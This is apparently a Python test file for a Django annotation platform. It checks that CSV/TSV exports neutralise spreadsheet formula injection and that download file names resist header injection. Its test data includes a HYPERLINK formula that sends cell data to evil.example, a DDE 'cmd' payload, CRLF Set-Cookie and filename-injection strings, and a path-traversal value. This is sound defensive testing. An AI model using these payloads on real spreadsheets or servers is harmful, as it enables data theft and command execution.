"""Exports a manager opens in a spreadsheet: no cell runs as a formula, numbers stay
numbers, JSON Lines is unchanged, and the download's file name cannot break its header."""

import csv
import io
import json
import re
import shutil
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from annotation.answers import submit_answers
from annotation.queue import next_unit
from bws import services as bws_services
from bws.filemode import ScoreRow, write_score_table
from bws.tests.test_runs import annotate
from projects import interchange, spreadsheet
from projects.downloads import attachment, safe_filename
from projects.models import Membership
from projects.services import import_project
from projects.tests.factories import MembershipFactory, UserFactory

ROOT = Path(settings.BASE_DIR)
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
    "-2+3",
    "=cmd|' /C calc'!A0",
]
# How a spreadsheet decides to evaluate a cell: its first character.
FORMULA_FIRST = ("=", "+", "-", "@", "\t", "\r", "|", "%")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def assert_no_formula(cells):
    for cell in cells:
        if cell[:1] in FORMULA_FIRST:
            assert NUMBER.fullmatch(cell), f"cell {cell!r} would run as a formula"


def read_cells(text: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


# --------------------------------------------------------------------------- answer export


@pytest.fixture
def text_project(tmp_path):
    folder = tmp_path / "notes"
    (folder / "data").mkdir(parents=True)
    items = [{"id": f"doc{n}", "text": f"Document {n}"} for n in range(len(PAYLOADS))]
    (folder / "data" / "items.jsonl").write_text("".join(json.dumps(i) + "\n" for i in items))
    (folder / "config.yaml").write_text(
        "annotation_task_name: Notes\n"
        'task_dir: "."\n'
        "data_files: [data/items.jsonl]\n"
        "item_properties: {id_key: id, text_key: text}\n"
        "annotation_schemes:\n"
        "  - {annotation_type: text, name: note, description: A note}\n"
        'output_annotation_dir: "out/"\n'
    )
    project = import_project(config_path=folder / "config.yaml", slug="notes").project
    annotator = UserFactory(username="ann")
    MembershipFactory(user=annotator, project=project)
    for payload in PAYLOADS:
        unit = next_unit(project=project, user=annotator)
        submit_answers(project=project, user=annotator, unit_id=unit.pk, answers={"note": payload})
    manager = UserFactory(username="mgr")
    MembershipFactory(user=manager, project=project, role=Membership.Role.MANAGER)
    return project, manager


@pytest.mark.django_db
@pytest.mark.parametrize("fmt, delimiter", [("csv", ","), ("tsv", "\t")])
def test_answer_export_neutralises_formulas(client, text_project, fmt, delimiter):
    project, manager = text_project
    client.force_login(manager)
    response = client.get(reverse("project-export", args=[project.slug]), {"format": fmt})
    assert response.status_code == 200
    rows = read_cells(response.content.decode(), delimiter)
    note = rows[0].index("note")
    written = sorted(row[note] for row in rows[1:])
    assert len(written) == len(PAYLOADS)
    assert_no_formula(cell for row in rows for cell in row)
    # Each answer is still there, behind the guard a spreadsheet shows as text.
    assert sorted(spreadsheet.unguard(cell) for cell in written) == sorted(PAYLOADS)
    assert all(cell.startswith("'") for cell in written)


@pytest.mark.django_db
def test_exported_table_imports_back_to_the_same_answers(client, text_project, tmp_path):
    project, manager = text_project
    client.force_login(manager)
    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
        body = client.get(reverse("project-export", args=[project.slug]), {"format": fmt})
        records = interchange.read_table_text(body.content.decode(), delimiter=delimiter)
        assert sorted(r.annotations["note"] for r in records) == sorted(PAYLOADS)


@pytest.mark.django_db
def test_jsonl_export_is_unchanged(client, text_project):
    project, manager = text_project
    client.force_login(manager)
    response = client.get(reverse("project-export", args=[project.slug]), {"format": "jsonl"})
    notes = [json.loads(line)["annotations"]["note"] for line in response.content.splitlines()]
    assert sorted(notes) == sorted(PAYLOADS)


def test_export_files_written_on_the_server_are_neutralised(tmp_path):
    records = [
        interchange.UnitRecord(id=f"u{n}", annotations={"note": p}) for n, p in enumerate(PAYLOADS)
    ]
    for suffix, delimiter in ((".csv", ","), (".tsv", "\t")):
        path = tmp_path / f"answers{suffix}"
        interchange.write_table(records, path)
        rows = read_cells(path.read_text(encoding="utf-8"), delimiter)
        assert_no_formula(cell for row in rows for cell in row)


@given(
    st.lists(st.text(st.characters(exclude_characters="\x00"), max_size=12), min_size=1, max_size=6)
)
def test_the_guard_comes_off_exactly(cells):
    stream = io.StringIO(newline="")
    spreadsheet.writer(stream, delimiter="\t").writerow(cells)
    (row,) = read_cells(stream.getvalue(), "\t")
    assert_no_formula(row)
    assert [spreadsheet.unguard(cell) for cell in row] == cells


# --------------------------------------------------------------------------- score tables


def test_score_table_guards_text_and_keeps_negative_scores_numeric(tmp_path):
    rows = [
        ScoreRow("=1+1", '=HYPERLINK("http://evil.example","x")', 0.5, 0.1, 0.9, 3, 0, 4, 1),
        ScoreRow("@b", "+ plus", -0.5, -0.93, -0.07, 0, 3, 4, 2),
        ScoreRow("c", "-2+3", None, None, None, 0, 0, 0, None),
    ]
    for suffix, delimiter in ((".tsv", "\t"), (".csv", ",")):
        table = read_cells(write_score_table(rows, tmp_path / f"s{suffix}").read_text(), delimiter)
        assert_no_formula(cell for row in table for cell in row)
        assert [row[0] for row in table[1:]] == ["'=1+1", "'@b", "c"]
        assert table[2][2:5] == ["-0.500000", "-0.930000", "-0.070000"]
        assert float(table[2][2]) == -0.5
        assert table[3][1] == "'-2+3"


@pytest.fixture
def formula_study(tmp_path):
    """The dialect-B example with a formula as one translation's text."""
    folder = tmp_path / "mt"
    shutil.copytree(ROOT / "examples" / "mt_tuples", folder)
    data = folder / "data" / "mt_tuples.jsonl"
    lines = []
    for line in data.read_text().splitlines():
        record = json.loads(line)
        for translation in record["translations"]:
            if translation["id"] == "sys_c":
                translation["text"] = '=HYPERLINK("http://evil.example","x")'
        lines.append(json.dumps(record))
    data.write_text("\n".join(lines) + "\n")
    return folder


@pytest.mark.django_db
@pytest.mark.parametrize("fmt, delimiter", [("csv", ","), ("tsv", "\t")])
def test_score_download_is_neutralised_and_numeric(client, formula_study, fmt, delimiter):
    project = import_project(config_path=formula_study / "config.yaml", slug="mt").project
    annotate(project, ["overall_quality"], n_users=3, per_user=30)
    run = bws_services.request_run(project=project, scheme="overall_quality", bootstrap=50)
    bws_services.execute_run(run.pk)
    manager = UserFactory(username="boss")
    Membership.objects.create(user=manager, project=project, role="manager")
    client.force_login(manager)
    url = reverse("bws-download", args=["mt"])
    response = client.get(url, {"scheme": "overall_quality", "format": fmt})
    table = read_cells(response.content.decode(), delimiter)
    assert_no_formula(cell for row in table for cell in row)
    texts = {row[0]: row[1] for row in table[1:]}
    assert texts["sys_c"] == '\'=HYPERLINK("http://evil.example","x")'
    scores = [float(row[2]) for row in table[1:]]  # every score parses as a number
    assert any(score < 0 for score in scores)


# --------------------------------------------------------------------------- file names

HOSTILE_NAMES = [
    'a"; filename=evil.sh',
    "a\r\nSet-Cookie: session=stolen",
    "a\nb",
    "../../etc/passwd",
    "Ünïcödé ☃ scheme",
    "x" * 500,
    "",
    "..",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_download_names_are_plain_ascii(name):
    cleaned = safe_filename(f"mt-{name}-bws.tsv")
    assert re.fullmatch(r"[A-Za-z0-9._-]{1,100}", cleaned)
    assert not cleaned.startswith(".")
    header = attachment(b"", filename=f"mt-{name}-bws.tsv", content_type="text/plain")[
        "Content-Disposition"
    ]
    assert header == f'attachment; filename="{cleaned}"'


@pytest.mark.django_db
@pytest.mark.parametrize("scheme", ['a"; filename=evil.sh', "a\r\nSet-Cookie: x=1"])
def test_score_download_name_from_a_hostile_scheme_name(client, tmp_path, scheme):
    folder = tmp_path / "mt"
    shutil.copytree(ROOT / "examples" / "mt_tuples", folder)
    config = folder / "config.yaml"
    config.write_text(
        config.read_text().replace("name: overall_quality", f"name: {json.dumps(scheme)}")
    )
    project = import_project(config_path=config, slug="mt").project
    annotate(project, [scheme], n_users=2, per_user=20)
    run = bws_services.request_run(project=project, scheme=scheme, bootstrap=0)
    bws_services.execute_run(run.pk)
    manager = UserFactory(username="boss")
    Membership.objects.create(user=manager, project=project, role="manager")
    client.force_login(manager)
    response = client.get(reverse("bws-download", args=["mt"]), {"scheme": scheme})
    assert response.status_code == 200
    header = response["Content-Disposition"]
    match = re.fullmatch(r'attachment; filename="([A-Za-z0-9._-]+)"', header)
    assert match and match[1].endswith(".tsv")
    assert "Set-Cookie" not in response.headers and "\n" not in header and "\r" not in header
